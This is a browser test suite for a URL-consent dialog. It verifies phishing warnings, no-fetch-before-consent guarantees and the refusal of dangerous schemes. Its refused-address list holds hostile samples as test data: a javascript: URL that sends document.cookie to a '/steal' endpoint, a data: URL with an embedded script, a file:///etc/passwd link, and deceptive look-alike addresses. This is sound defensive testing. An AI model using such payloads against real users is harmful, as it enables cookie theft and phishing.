import '../../src/theme/styles.css';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { commands, page, userEvent } from 'vitest/browser';
import { cleanup } from 'vitest-browser-react';
import { ElicitationDialog } from '../../src/index';
import { createVisitedDomains } from 'mcp-elicitation-core/url';
import { dialog, expectNoAxeViolations, openRequest, type OpenRequestProps } from './helpers';

const server = { id: 'payments', label: 'Payments' };
/** A destination on another origin than the test page; the browser answers it locally (see url-commands). */
const TARGET = 'https://consent-target.test';
const targetUrl = `${TARGET}/connect?session=abc123`;

function urlRequest(url: string, message = 'Sign in to connect your account.') {
  return { mode: 'url', message, url, elicitationId: 'el-1' };
}

async function open(props: OpenRequestProps) {
  const visitedDomains = props.visitedDomains ?? createVisitedDomains();
  return { ...(await openRequest({ server, visitedDomains, ...props })), visitedDomains };
}

const openButton = () => page.getByRole('button', { name: /^Open / });
const targetRequests = <T extends { url: string }>(log: T[]) => log.filter((r) => new URL(r.url).host === new URL(TARGET).host);

beforeAll(async () => {
  await commands.urlServeTarget(TARGET);
});

afterEach(async () => {
  await cleanup();
  vi.restoreAllMocks();
  document.documentElement.removeAttribute('data-theme');
});

describe('URL consent: what the user sees', () => {
  it('shows who asks, the message, the destination on its own, and the full address as plain text', async () => {
    const url = 'https://google.com@accounts.google.com.evil.example/login?next=%2Fhome';
    await open({ request: urlRequest(url) });
    await expect.element(page.getByRole('dialog', { name: 'Request from Payments' })).toBeVisible();
    await expect.element(page.getByText('Sign in to connect your account.')).toBeVisible();
    await expect.element(page.getByText('You will go to: evil.example')).toBeVisible();

    const address = page.getByRole('group', { name: 'Full address' }).element() as HTMLElement;
    expect(address.textContent).toBe(new URL(url).href);
    expect(address.getAttribute('dir')).toBe('ltr');
    expect(address.querySelector('[data-slot="url-consent-address-domain"]')?.textContent).toBe('evil.example');
    // Not a link anywhere, and nothing that could load.
    expect(dialog().querySelector('a, img, link, iframe, object, embed, video, audio, source, picture, [href], [src]')).toBeNull();

    const warnings = [...dialog().querySelectorAll('[data-slot="url-consent-warnings"] li')].map((li) => li.getAttribute('data-code'));
    expect(warnings).toEqual(['credentials', 'deceptive-subdomain']);
    await expect
      .element(page.getByText('The address starts with another site’s name (“google.com”), but it goes to evil.example.'))
      .toBeVisible();
    await expect.element(page.getByRole('button', { name: 'Open evil.example' })).toBeVisible();
    // The safe choice has focus first, not the consent.
    await expect.element(page.getByRole('button', { name: 'Decline' })).toHaveFocus();
    await expectNoAxeViolations();
  });

  it('warns about a Punycode look-alike and names what it imitates', async () => {
    await open({ request: urlRequest('https://\u0430pple.com/account') });
    await expect.element(page.getByText('You will go to: xn--pple-43d.com')).toBeVisible();
    await expect.element(page.getByText(/imitates “apple\.com”/)).toBeVisible();
    await expect.element(page.getByText(/international letters/)).toBeVisible();
    await expectNoAxeViolations();
  });

  it('a very long address wraps inside the dialog, scrolls by keyboard, and the actions stay on screen', async () => {
    await page.viewport(600, 500);
    const long = `${TARGET}/${'segment/'.repeat(300)}?q=${'x'.repeat(500)}`;
    await open({ request: urlRequest(long) });
    const address = page.getByRole('group', { name: 'Full address' }).element() as HTMLElement;
    expect(address.scrollWidth).toBeLessThanOrEqual(address.clientWidth);
    expect(address.tabIndex).toBe(0);
    const rect = openButton().element().getBoundingClientRect();
    expect(rect.bottom).toBeLessThanOrEqual(window.innerHeight);
    await expectNoAxeViolations();
  });

  it('says when a domain is trusted, and whether it was opened before in this session', async () => {
    const first = await open({ request: urlRequest(targetUrl), trustedDomains: ['consent-target.test'], openUrl: () => 'opened' });
    await expect.element(page.getByText('consent-target.test is on this app’s list of trusted sites.', { exact: false })).toBeVisible();
    await expect.element(page.getByText(/You have not opened consent-target\.test/)).toBeVisible();
    await openButton().click();
    expect(await first.recorder.single()).toEqual({ action: 'accept' });
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
    await cleanup();
    await open({ request: urlRequest(`${TARGET}/again`), visitedDomains: first.visitedDomains });
    await expect.element(page.getByText('You have opened consent-target.test from this app before.')).toBeVisible();
    await expect.element(page.getByText(/trusted/)).not.toBeInTheDocument();
  });

  it('axe finds nothing in the dark theme with warnings', async () => {
    document.documentElement.setAttribute('data-theme', 'dark');
    await open({ request: urlRequest('http://0x7f.1:8080/callback') });
    await expect.element(page.getByText('You will go to: 127.0.0.1 (port 8080)')).toBeVisible();
    await expectNoAxeViolations();
  });
});

describe('URL consent: nothing is fetched before consent', () => {
  it('showing, reading, scrolling, selecting and copying the address make no request to it', async () => {
    await commands.urlGrantClipboard();
    await commands.urlStartRequestLog();
    const before = performance.getEntriesByType('resource').length;
    const { recorder } = await open({ request: urlRequest(`${targetUrl}&favicon=/favicon.ico`) });
    const address = page.getByRole('group', { name: 'Full address' });
    await address.hover();
    await address.click();
    window.getSelection()?.selectAllChildren(address.element());
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect.element(page.getByText('Link copied.', { exact: false })).toBeVisible();
    await page.getByRole('button', { name: 'Decline' }).click();
    expect(await recorder.single()).toEqual({ action: 'decline' });

    // A barrier instead of a pause: the test itself now requests the target origin. Anything the dialog
    // made the page load (an image, a favicon, a prefetch) was issued before this, so the log holds it
    // by the time it holds the barrier, whatever the machine's speed.
    const barrier = `${TARGET}/barrier`;
    await fetch(barrier, { mode: 'no-cors' });
    expect(targetRequests(await commands.urlTakeRequestLog()).map((r) => r.url)).toEqual([barrier]);
    const resources = performance
      .getEntriesByType('resource')
      .slice(before)
      .map((e) => e.name);
    expect(resources.filter((name) => name.includes('consent-target') && name !== barrier)).toEqual([]);
    expect([...document.head.querySelectorAll('link')].filter((l) => l.href.includes('consent-target'))).toEqual([]);
  });
});

describe('URL consent: opening', () => {
  it('Open opens the page in a new window that has no opener and no referrer, then accepts', async () => {
    await commands.urlStartRequestLog();
    const pagesBefore = await commands.urlCountPages();
    const { recorder } = await open({ request: urlRequest(targetUrl) });
    await openButton().click();
    expect(await recorder.single()).toEqual({ action: 'accept' });
    const seen = await commands.urlInspectPopup(TARGET);
    expect(seen).toEqual({ href: targetUrl, hasOpener: false, referrer: '' });
    const requests = targetRequests(await commands.urlTakeRequestLog());
    expect(requests.map((r) => r.url)).toEqual([targetUrl]);
    expect(requests[0]?.referer).toBeNull();
    expect(await commands.urlCountPages()).toBe(pagesBefore);
    // The dialog closed (afterOpen defaults to 'close').
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
  });

  it('the keyboard can consent too: Tab to Open and press Enter', async () => {
    const openUrl = vi.fn(() => 'opened' as const);
    const { recorder } = await open({ request: urlRequest(targetUrl), openUrl });
    await userEvent.tab();
    await expect.element(openButton()).toHaveFocus();
    await userEvent.keyboard('{Enter}');
    expect(await recorder.single()).toEqual({ action: 'accept' });
    expect(openUrl).toHaveBeenCalledWith(targetUrl);
  });

  it('a blocked popup is reported, nothing is answered, and Open can be tried again', async () => {
    const spy = vi.spyOn(window, 'open').mockReturnValue(null);
    const { recorder } = await open({ request: urlRequest(targetUrl) });
    await openButton().click();
    expect(spy).toHaveBeenCalledTimes(1);
    const alert = page.getByRole('alert').filter({ hasText: 'blocked' });
    await expect.element(alert).toHaveTextContent('Your browser blocked the new window, so nothing was opened.');
    // The click handler that saw the blocked window is the one that would have answered, and it ran
    // before the alert could render: nothing was answered, with no waiting needed.
    expect(recorder.results).toEqual([]);
    await expect.element(openButton()).toBeEnabled();
    await expectNoAxeViolations();

    spy.mockRestore();
    await openButton().click();
    expect(await recorder.single()).toEqual({ action: 'accept' });
    expect((await commands.urlInspectPopup(TARGET)).hasOpener).toBe(false);
  });

  it('a popup the browser closes at once counts as blocked', async () => {
    vi.spyOn(window, 'open').mockReturnValue({ closed: true } as Window);
    const { recorder } = await open({ request: urlRequest(targetUrl) });
    await openButton().click();
    await expect.element(page.getByText(/blocked the new window/)).toBeVisible();
    expect(recorder.results).toEqual([]);
  });

  it('a host opener that fails counts as blocked; one that resolves later accepts', async () => {
    let resolve!: (outcome: 'opened') => void;
    const openUrl = vi
      .fn()
      .mockRejectedValueOnce(new Error('shell refused'))
      .mockImplementationOnce(() => new Promise((r) => (resolve = r)));
    const { recorder } = await open({ request: urlRequest(targetUrl), openUrl });
    await openButton().click();
    await expect.element(page.getByText(/blocked the new window/)).toBeVisible();
    await openButton().click();
    await expect.element(page.getByRole('status').filter({ hasText: 'Opening…' })).toBeVisible();
    await expect.element(openButton()).toBeDisabled();
    resolve('opened');
    expect(await recorder.single()).toEqual({ action: 'accept' });
  });
});

describe('URL consent: after the page was opened', () => {
  it("afterOpen 'confirm' (MRTR): waits, focuses “I’m done — retry”, and accepts only then", async () => {
    const { recorder } = await open({ request: urlRequest(targetUrl), afterOpen: 'confirm', openUrl: () => 'opened' });
    await openButton().click();
    await expect.element(page.getByRole('status').filter({ hasText: 'Waiting for you to finish in the other window.' })).toBeVisible();
    const done = page.getByRole('button', { name: 'I’m done — retry' });
    await expect.element(done).toHaveFocus();
    await expect.element(page.getByRole('button', { name: 'Open consent-target.test again' })).toBeVisible();
    expect(recorder.results).toEqual([]);
    await expectNoAxeViolations();
    await userEvent.keyboard('{Enter}');
    expect(await recorder.single()).toEqual({ action: 'accept' });
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
  });

  it("afterOpen 'confirm': the user can still cancel while waiting", async () => {
    const { recorder } = await open({ request: urlRequest(targetUrl), afterOpen: 'confirm', openUrl: () => 'opened' });
    await openButton().click();
    await userEvent.keyboard('{Escape}');
    expect(await recorder.single()).toEqual({ action: 'cancel' });
  });

  it("afterOpen 'wait' (2025-11-25): accepts on open, waits, and closes when the host reports completion", async () => {
    const props = { request: urlRequest(targetUrl), afterOpen: 'wait' as const, openUrl: () => 'opened' as const };
    const { recorder, screen, visitedDomains } = await open(props);
    await openButton().click();
    expect(await recorder.single()).toEqual({ action: 'accept' });
    await expect.element(page.getByRole('dialog')).toBeVisible();
    await expect.element(page.getByText('Waiting for you to finish in the other window.')).toBeVisible();
    await expect.element(page.getByRole('button', { name: 'Decline' })).not.toBeInTheDocument();
    // One Close: the waiting screen's own (focused), not a second one in the header.
    await expect.element(page.getByRole('button', { name: 'Close' })).toHaveFocus();
    expect(page.getByRole('button', { name: /close|cancel/i }).elements()).toHaveLength(1);
    await expectNoAxeViolations();
    await screen.rerender(
      <ElicitationDialog server={server} onResult={recorder.onResult} visitedDomains={visitedDomains} {...props} completed />,
    );
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
    expect(recorder.results).toHaveLength(1);
  });

  it("afterOpen 'wait': the user can close the waiting dialog; nothing more is sent", async () => {
    const { recorder } = await open({ request: urlRequest(targetUrl), afterOpen: 'wait', openUrl: () => 'opened' });
    await openButton().click();
    await page.getByRole('button', { name: 'Close' }).click();
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
    expect(await recorder.single()).toEqual({ action: 'accept' });
  });

  it('completion reported before any consent (finished on another device) answers cancel and closes, as the queue does', async () => {
    const props = { request: urlRequest(targetUrl) };
    const { recorder, screen, visitedDomains } = await open(props);
    await screen.rerender(
      <ElicitationDialog server={server} onResult={recorder.onResult} visitedDomains={visitedDomains} {...props} completed />,
    );
    expect(await recorder.single()).toEqual({ action: 'cancel' });
    await expect.element(page.getByRole('dialog')).not.toBeInTheDocument();
  });
});

describe('URL consent: Copy link', () => {
  it('copies the full address and says so; copying is not an answer', async () => {
    await commands.urlGrantClipboard();
    const { recorder } = await open({ request: urlRequest(targetUrl) });
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect.element(page.getByRole('status').filter({ hasText: 'Link copied. You can open it on another device.' })).toBeVisible();
    expect(await navigator.clipboard.readText()).toBe(targetUrl);
    expect(recorder.results).toEqual([]);
    await expectNoAxeViolations();
  });

  it('when the clipboard refuses, it says so and selects the address for copying by hand', async () => {
    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new DOMException('denied', 'NotAllowedError'));
    await open({ request: urlRequest(targetUrl) });
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect.element(page.getByRole('alert').filter({ hasText: 'could not be copied' })).toBeVisible();
    expect(window.getSelection()?.toString()).toBe(targetUrl);
    await expectNoAxeViolations();
  });
});

const refusedUrls = [
  ['javascript:', 'javascript:fetch("https://consent-target.test/steal?c="+document.cookie)', /run code/],
  ['vbscript:', 'vbscript:msgbox(1)', /run code/],
  ['data:', 'data:text/html,<script>alert(1)</script>', /whole page/],
  ['file:', 'file:///etc/passwd', /file on your computer/],
  ['blob:', 'blob:https://consent-target.test/1234', /data held by this app/],
  ['about:', 'about:blank', /browser itself/],
  ['a custom scheme', 'slack://open?team=T1', /“slack:”/],
  ['an unparseable address', 'consent-target.test/login', /not a valid web address/],
] as const;

describe('URL consent: refused addresses', () => {
  it.each(refusedUrls)('%s: explained, with only Decline and Cancel, and no way to open it', async (_name, url, says) => {
    const openSpy = vi.spyOn(window, 'open');
    await commands.urlStartRequestLog();
    const pagesBefore = await commands.urlCountPages();
    const { recorder } = await open({ request: urlRequest(url) });
    await expect.element(page.getByText('This link cannot be opened')).toBeVisible();
    await expect.element(page.getByText(says)).toBeVisible();
    await expect.element(page.getByRole('group', { name: 'Full address' })).toHaveTextContent(url);

    const buttons = [...dialog().querySelectorAll('button')].map((b) => b.getAttribute('aria-label') ?? b.textContent);
    expect(buttons.sort()).toEqual(['Cancel', 'Decline']);

    // Mouse: click, double-click and middle-click the address; keyboard: Enter and Space on every stop.
    const address = page.getByRole('group', { name: 'Full address' });
    await address.click();
    await address.dblClick();
    await address.click({ button: 'middle' });
    const stops: string[] = [];
    for (let i = 0; i < 6; i++) {
      await userEvent.tab();
      const focused = document.activeElement as HTMLElement;
      stops.push(focused.getAttribute('aria-label') ?? focused.getAttribute('role') ?? focused.textContent ?? '');
      if (focused.getAttribute('role') === 'group') await userEvent.keyboard('{Enter} ');
    }
    expect(new Set(stops)).toEqual(new Set(['group', 'Decline', 'Cancel']));

    expect(openSpy).not.toHaveBeenCalled();
    expect(await commands.urlCountPages()).toBe(pagesBefore);
    expect(targetRequests(await commands.urlTakeRequestLog())).toEqual([]);
    expect(recorder.results).toEqual([]);
    await expectNoAxeViolations();

    await page.getByRole('button', { name: 'Decline' }).click();
    expect(await recorder.single()).toEqual({ action: 'decline' });
  });

  it('invisible characters in a refused address are made visible and a huge one is cut', async () => {
    await open({ request: urlRequest(`javascript:\u202ealert(1)//${'A'.repeat(5000)}`) });
    const text = page.getByRole('group', { name: 'Full address' }).element().textContent ?? '';
    expect(text).toContain('javascript:<U+202E>alert(1)');
    // Counts are written the English way, through Intl (4,526).
    expect(text).toMatch(/… \(\d{1,3}(,\d{3})* more characters\)$/);
    expect(text.length).toBeLessThan(600);
  });

  it('a request without an address is explained once, by the request issues', async () => {
    const { recorder } = await open({ request: { mode: 'url', message: 'Open this' } });
    await expect.element(page.getByText('The request asks to open a link but does not include one.')).toBeVisible();
    await expect.element(page.getByText('This link cannot be opened')).not.toBeInTheDocument();
    expect(dialog().querySelector('[data-slot="url-consent-open"], [data-slot="url-consent-copy"]')).toBeNull();
    await expectNoAxeViolations();
    await userEvent.keyboard('{Escape}');
    expect(await recorder.single()).toEqual({ action: 'cancel' });
  });

  it('a withdrawn request (disabled) cannot be opened or copied, and can still be cancelled', async () => {
    const openUrl = vi.fn(() => 'opened' as const);
    const { recorder } = await open({ request: urlRequest(targetUrl), disabled: true, openUrl });
    await expect.element(openButton()).toBeDisabled();
    await expect.element(page.getByRole('button', { name: 'Copy link' })).toBeDisabled();
    await page.getByRole('button', { name: 'Cancel' }).click();
    expect(await recorder.single()).toEqual({ action: 'cancel' });
    expect(openUrl).not.toHaveBeenCalled();
  });
});
